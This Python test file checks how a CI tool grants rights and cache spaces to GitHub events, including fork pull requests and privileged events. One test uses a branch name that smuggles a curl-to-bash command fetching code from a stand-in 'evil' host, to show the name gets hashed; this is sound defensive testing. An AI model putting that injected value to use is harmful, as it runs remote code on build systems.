"""What an event allows."""

from __future__ import annotations

import hashlib
from collections.abc import Iterable
from pathlib import Path

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st

from ciml.core.errors import TrustError
from ciml.core.event import MAIN, Event, Kind, Rights, Run, notices, rights, space_of, stage_refusal
from ciml.core.ids import CommitSha

HEAD = CommitSha("a" * 40)
OTHER = CommitSha("b" * 40)
RUN = Run(id="77", attempt=1, workflow="ciml.yml", number=5)


def event(kind: Kind, **fields: object) -> Event:
    """An event of a repository whose default branch is main."""
    plain = Event(kind=kind, name=kind.value, default_branch="main", head=HEAD, head_sha=HEAD, run=RUN)
    return msgspec.structs.replace(plain, **fields)


def granted(found: Rights) -> set[str]:
    """The rights that reach beyond the run itself."""
    return {name for name in ("admits", "registers", "deploys") if getattr(found, name)}


ALL = {"admits", "registers", "deploys"}


# The table, row by row.


def test_a_push_to_the_default_branch() -> None:
    """Runs in a space of its run, reads main, and may do everything."""
    assert rights(event(Kind.PUSH, branch="main")) == Rights(
        runs=True,
        space="run/77-1",
        reads=("main",),
        admits=True,
        registers=True,
        deploys="promotion",
        syncs=False,
        reports=True,
        head_policy=True,
        refusal=None,
    )


def test_a_push_to_another_branch() -> None:
    """Runs in a space of its branch, and may nothing."""
    found = rights(event(Kind.PUSH, branch="topic"))
    assert (found.runs, found.space, found.reads, found.reports) == (True, "branch/topic", (MAIN,), True)
    assert granted(found) == set()
    assert not found.head_policy


def test_c010_a_pull_request_of_the_same_repository() -> None:
    """Same-repo PR from a write-access author → not main; R0."""
    found = rights(event(Kind.PULL_REQUEST, branch="topic", number=7, base_branch="main"))
    assert (found.runs, found.space, found.reads, found.reports) == (True, "pr/7", (MAIN,), True)
    assert granted(found) == set()
    assert not found.head_policy


def test_c007_a_pull_request_from_a_fork() -> None:
    """Fork pull_request: runs, writes no record, tries no comment; R0, trusted cache C0."""
    found = rights(event(Kind.PULL_REQUEST, branch="main", number=7, fork=True))
    assert (found.runs, found.space, found.reports, found.head_policy) == (True, None, False, False)
    assert granted(found) == set()
    assert found.refusal is None


def test_c009_what_a_fork_measured_is_labelled() -> None:
    """Fork PR edits the metrics writer to print acc=1.0 → PR verdict labelled "untrusted evaluation"."""
    [sentence] = notices(event(Kind.PULL_REQUEST, number=7, fork=True, base_branch="main"))
    assert sentence.startswith("An untrusted evaluation")
    assert notices(event(Kind.PULL_REQUEST, number=7)) == ()


@pytest.mark.parametrize("kind", [Kind.PUSH, Kind.SCHEDULE, Kind.DISPATCH, Kind.MANUAL])
def test_a_remote_that_names_no_default_branch(kind: Kind) -> None:
    """No branch is the default one: what then is not registered is told, where the event says nothing else."""
    [sentence] = notices(event(kind, branch="main", default_branch=""))
    assert sentence.startswith("Nothing is registered: which branch is the default one is not known")
    assert notices(event(kind, branch="main", default_branch="main")) == ()


def test_c039_a_merge_group() -> None:
    """merge_group event (gh-readonly-queue/main/…) → as a pull request for writes; R0."""
    found = rights(event(Kind.MERGE_GROUP, branch="gh-readonly-queue/main/pr-104-ab", number=104))
    assert (found.runs, found.space, found.reports) == (True, "group/104", True)
    assert granted(found) == set()
    unnumbered = rights(event(Kind.MERGE_GROUP, branch="gh-readonly-queue/main/odd"))
    assert unnumbered.space == space_of("group", "gh-readonly-queue/main/odd")


def test_a_release_tag() -> None:
    """Runs and writes nothing, and deploys what it names."""
    found = rights(event(Kind.TAG, tag="v1"))
    assert (found.runs, found.space, found.deploys, found.reports) == (False, None, "release", True)
    assert granted(found) == {"deploys"}


@pytest.mark.parametrize("kind", [Kind.SCHEDULE, Kind.DISPATCH])
def test_new_data_is_looked_for_first(kind: Kind) -> None:
    """A schedule and a dispatch are a push of their branch, after `data sync`."""
    pushed = rights(event(Kind.PUSH, branch="main"))
    assert rights(event(kind, branch="main")) == msgspec.structs.replace(pushed, syncs=True)


@pytest.mark.parametrize("kind", [Kind.SCHEDULE, Kind.DISPATCH, Kind.MANUAL])
def test_c040_trust_comes_from_the_ref(kind: Kind) -> None:
    """`schedule`/`workflow_dispatch` on a non-default ref → trust from ref, not from event."""
    found = rights(event(kind, branch="topic"))
    assert found.space == "branch/topic"
    assert granted(found) == set()
    assert granted(rights(event(kind, branch="main"))) == ALL


def test_a_workflow_started_by_hand_on_a_tag_is_the_tags() -> None:
    """It deploys what the tag names; no other event about a tag does."""
    assert rights(event(Kind.MANUAL, tag="v1")) == rights(event(Kind.TAG, tag="v1"))
    assert granted(rights(event(Kind.SCHEDULE, tag="v1"))) == set()


def test_a_laptop() -> None:
    """Policy is its own, records are its user's, and only the default branch may register."""
    found = rights(event(Kind.LOCAL, branch="main", actor="ada"))
    assert (found.runs, found.space, found.head_policy, found.reports) == (True, "user/ada", True, False)
    assert granted(found) == {"registers"}
    assert granted(rights(event(Kind.LOCAL, branch="topic"))) == set()


def test_a_workflow_run_reports_and_runs_nothing() -> None:
    """Reporting from an artifact treated as data is allowed."""
    found = rights(event(Kind.REPORT, branch="main", fork=True))
    assert found == msgspec.structs.replace(rights(event(Kind.OTHER)), reports=True)


@pytest.mark.parametrize("name", ["pull_request_target", "issue_comment"])
def test_c005_untrusted_code_in_a_privileged_event(name: str) -> None:
    """Checked-out HEAD is not the default branch's commit → exit 6 "refusing: untrusted code in a privileged event"."""
    about = event(Kind.PRIVILEGED, branch="main", fork=True)
    about = msgspec.structs.replace(about, name=name)
    for checked_out in (OTHER, None):
        found = rights(about, checked_out=checked_out)
        assert isinstance(found.refusal, TrustError)
        assert found.refusal.message == f"refusing: untrusted code in a privileged event ({name})"
        assert found == msgspec.structs.replace(rights(event(Kind.OTHER)), refusal=found.refusal)
    trusted = rights(about, checked_out=HEAD)
    assert trusted.refusal is None
    assert not trusted.runs


def test_a_privileged_event_without_a_commit_is_refused() -> None:
    """What is not known is not equal to what is not checked out."""
    assert rights(event(Kind.PRIVILEGED, head=None), checked_out=None).refusal is not None


@pytest.mark.parametrize("kind", [Kind.REPORT, Kind.PRIVILEGED, Kind.TAG, Kind.OTHER])
def test_c006_no_stage_is_run_where_only_reporting_is_allowed(kind: Kind) -> None:
    """workflow_run / issue_comment that would run a stage → exit 6."""
    assert isinstance(stage_refusal(event(kind, tag="v1", fork=True)), TrustError)


@pytest.mark.parametrize("kind", [Kind.PUSH, Kind.PULL_REQUEST, Kind.MERGE_GROUP, Kind.SCHEDULE, Kind.LOCAL])
def test_stages_run_elsewhere(kind: Kind) -> None:
    """The same question is answered with nothing to say."""
    assert stage_refusal(event(kind, branch="topic", number=3, fork=kind is Kind.PULL_REQUEST)) is None


@pytest.mark.parametrize("kind", list(Kind))
def test_c044_a_deleted_branch_or_tag_allows_nothing(kind: Kind) -> None:
    """`after` = zeros (branch deleted) → exit 0 "nothing to do", no stage."""
    gone = event(kind, branch="topic", deleted=True, head=None)
    assert rights(gone, checked_out=HEAD) == rights(event(Kind.OTHER))
    assert notices(gone) == ("Nothing to do: topic was deleted.",)


def test_an_event_that_means_nothing_says_so() -> None:
    """It is green, and told."""
    [sentence] = notices(event(Kind.OTHER))
    assert "Nothing to do" in sentence


# Spaces.


def test_a_later_attempt_reads_the_earlier_ones() -> None:
    """Jobs that ended well are not run again: their records are in the space of their attempt."""
    again = event(Kind.PUSH, branch="main", run=Run(id="77", attempt=3))
    found = rights(again)
    assert found.space == "run/77-3"
    assert found.reads == ("main", "run/77-2", "run/77-1")


def test_a_run_without_a_number_has_its_commits_space() -> None:
    """Plain Git has no runs."""
    found = rights(event(Kind.PUSH, branch="main", run=Run()))
    assert (found.space, found.reads) == (f"run/{HEAD}", (MAIN,))


def test_records_of_a_merged_pull_request_are_read_where_trust_says_so() -> None:
    """`trust: {reuse: pull-request}` is for pushes to the default branch alone."""
    pushed = event(Kind.PUSH, branch="main")
    found = rights(pushed, reuse="pull-request", merged=(4, 9, 4))
    assert found.reads == ("main", "group/4", "pr/4", "group/9", "pr/9")
    assert rights(pushed, merged=(4,)).reads == (MAIN,)
    for other in (event(Kind.PUSH, branch="topic"), event(Kind.PULL_REQUEST, number=4), event(Kind.SCHEDULE)):
        assert rights(other, reuse="pull-request", merged=(4,)).reads == (MAIN,)


def test_c002_a_hostile_name_is_a_digest() -> None:
    """Branch `x|curl${IFS}-sSfL${IFS}evil|bash` used as cache name → key is sha256 of it."""
    name = "x|curl${IFS}-sSfL${IFS}evil|bash"
    found = rights(event(Kind.PUSH, branch=name))
    assert found.space == f"branch/{hashlib.sha256(name.casefold().encode()).hexdigest()}"


def test_c038_names_are_compared_without_regard_to_case() -> None:
    """Two concurrency groups `Prod`/`prod` → treated equal by us too; key is casefolded."""
    assert space_of("branch", "Prod") == space_of("branch", "prod") == "branch/prod"
    assert space_of("branch", "Feature/ß") == space_of("branch", "feature/SS")


def test_no_name_is_another_names_digest() -> None:
    """A branch that is called like the digest of another one has a space of its own."""
    digest = space_of("branch", "feature/x").removeprefix("branch/")
    assert space_of("branch", digest) != space_of("branch", "feature/x")


@given(st.lists(st.text(), min_size=2, max_size=5, unique_by=lambda name: name.casefold()))
def test_spaces_are_safe_in_a_path_and_apart(names: list[str]) -> None:
    """Whatever the names: one level, no dots alone, and no two the same."""
    spaces = [space_of("branch", name) for name in names]
    assert len(set(spaces)) == len(names)
    for space in spaces:
        assert space.isascii()
        assert space.count("/") == 1
        assert not space.endswith(("/", "/.", "/.."))


# The page.

ROWS = {
    "push to the default branch": event(Kind.PUSH, branch="main"),
    "push to another branch": event(Kind.PUSH, branch="topic"),
    "pull request": event(Kind.PULL_REQUEST, number=7),
    "pull request of a fork": event(Kind.PULL_REQUEST, number=7, fork=True),
    "merge group": event(Kind.MERGE_GROUP, number=7),
    "tag": event(Kind.TAG, tag="v1"),
    "schedule on the default branch": event(Kind.SCHEDULE, branch="main"),
    "repository_dispatch on the default branch": event(Kind.DISPATCH, branch="main"),
    "workflow_dispatch on the default branch": event(Kind.MANUAL, branch="main"),
    "workflow_dispatch on another branch": event(Kind.MANUAL, branch="topic"),
    "workflow_dispatch on a tag": event(Kind.MANUAL, tag="v1"),
    "workflow_run": event(Kind.REPORT),
    "anything else, or a deleted branch": event(Kind.OTHER),
}


def test_the_page_has_the_table() -> None:
    """docs/events.md says of every event what is decided for it."""
    page = (Path(__file__).parents[2] / "docs/events.md").read_text()
    table = page.split("|---|---|---|---|---|\n")[1].split("\n\n")[0]
    told = [[cell.strip() for cell in line.split("|")[1:-1]] for line in table.splitlines()]
    decided = []
    for name, about in ROWS.items():
        found = rights(about)
        space = f"`{found.space.partition('/')[0]}/…`" if found.space else "nowhere"
        registers = "yes" if found.registers else "no"
        deploys = f"`after: {found.deploys}`" if found.deploys else "no"
        where = f"{space}, then `main`" if found.admits else space
        decided.append([name, "yes" if found.runs else "no", where, registers, deploys])
    assert told == decided


# Everything at once.


def of_any_event() -> st.SearchStrategy[Event]:
    name = st.one_of(st.sampled_from(["main", "Main", "", "topic", "refs/heads/main"]), st.text(max_size=5))
    return st.builds(
        Event,
        kind=st.sampled_from(list(Kind)),
        name=st.just("any"),
        default_branch=st.sampled_from(["main", "", "topic"]),
        branch=st.none() | name,
        tag=st.none() | name,
        head=st.sampled_from([HEAD, OTHER, None]),
        head_sha=st.sampled_from([HEAD, None]),
        number=st.none() | st.integers(1, 9),
        fork=st.booleans(),
        deleted=st.booleans(),
        run=st.builds(Run, id=st.sampled_from(["", "5"]), attempt=st.integers(-1, 99)),
    )


@given(of_any_event(), st.sampled_from([HEAD, OTHER, None]), st.lists(st.integers(1, 9)))
def test_nothing_reaches_beyond_the_run_unless_the_default_branch_or_a_tag_is_meant(
    about: Event, checked_out: CommitSha | None, merged: Iterable[int]
) -> None:
    """No event admits, registers or promotes unless it is about the default branch; a tag deploys."""
    found = rights(about, reuse="pull-request", merged=merged, checked_out=checked_out)
    if granted(found) - {"deploys"}:
        assert about.branch == about.default_branch != ""
        assert about.kind in {Kind.PUSH, Kind.SCHEDULE, Kind.DISPATCH, Kind.MANUAL, Kind.LOCAL}
        assert not about.fork
        assert not about.deleted
    if found.deploys == "release":
        assert about.kind is Kind.TAG or (about.kind is Kind.MANUAL and about.tag is not None)
    if found.refusal is not None:
        assert not found.runs
        assert not found.reports
    if about.fork:
        assert found.space is None or not found.space.startswith(("pr/", "main", "run/"))
    assert found.space != MAIN
